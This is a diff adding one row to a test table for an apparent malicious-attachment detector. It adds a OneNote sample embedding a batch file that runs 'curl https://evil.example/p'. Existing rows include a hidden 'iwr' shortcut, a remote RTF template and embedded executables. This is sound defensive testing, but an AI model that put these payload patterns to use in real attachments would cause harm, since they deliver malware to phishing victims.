@@ -117,6 +117,7 @@ ROWS: list[Row] = [
     ("rtf template", "a.doc", lambda: office.rtf(template="https://evil.example/t.rtf"), {Flag.EXTERNAL_TEMPLATE}, set(), set()),
     ("rtf package", "a.rtf", lambda: office.rtf(packed=("facture.exe", PROGRAM)), {Flag.EMBEDDED_OBJECT, Flag.EXECUTABLE_INSIDE}, set(), set()),
     ("onenote script", "a.one", lambda: office.onenote(b"MZ" + PROGRAM[2:]), {Flag.EMBEDDED_FILE, Flag.EXECUTABLE_INSIDE}, set(), set()),
+    ("onenote batch file", "a.one", lambda: office.onenote(b"@echo off\r\ncurl https://evil.example/p\r\n") + "facture.bat\0".encode("utf-16-le"), {Flag.EMBEDDED_FILE, Flag.EXECUTABLE_INSIDE}, set(), set()),
     ("onenote picture", "a.one", lambda: office.onenote(files.qr()), {Flag.OFFICE}, {Flag.EMBEDDED_FILE}, set()),
     ("shell link", "a.lnk", lambda: office.shell_link(f"-w hidden iwr {LURE}"), {Flag.SHORTCUT}, set(), {LURE}),
     ("internet shortcut", "a.url", lambda: office.internet_shortcut(LURE), {Flag.SHORTCUT}, set(), {LURE}),
